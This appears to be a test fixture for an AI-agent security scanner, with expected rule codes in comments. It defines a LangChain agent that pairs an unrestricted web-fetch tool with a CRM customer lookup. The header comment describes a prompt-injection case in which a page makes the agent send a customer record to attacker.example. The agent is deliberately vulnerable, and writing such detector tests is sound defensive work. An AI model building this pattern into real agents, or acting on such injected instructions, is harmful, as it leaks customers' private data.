# case: An account-research agent fetches any web page the model names and looks customers up in the CRM database: a page can tell it to fetch https://attacker.example/?q=<customer record>. No single tool is privileged, the combination is the lethal trifecta.
import sqlite3

import requests
from langchain.agents import create_agent
from langchain.tools import tool

DB = sqlite3.connect("/srv/crm/customers.db", check_same_thread=False)


@tool
def fetch_page(url: str) -> str:
    """Fetch a web page and return its text."""
    return requests.get(url, timeout=10).text  # expect: AIR106


@tool
def lookup_customer(email: str) -> str:
    """Return the CRM record of a customer."""
    row = DB.execute("SELECT name, plan, phone FROM customers WHERE email = ?", (email,)).fetchone()
    return str(row)


# expect: AIR103
researcher = create_agent(
    "openai:gpt-4.1",
    tools=[fetch_page, lookup_customer],
    system_prompt="Research the customer's company on the web and summarise their account.",
)
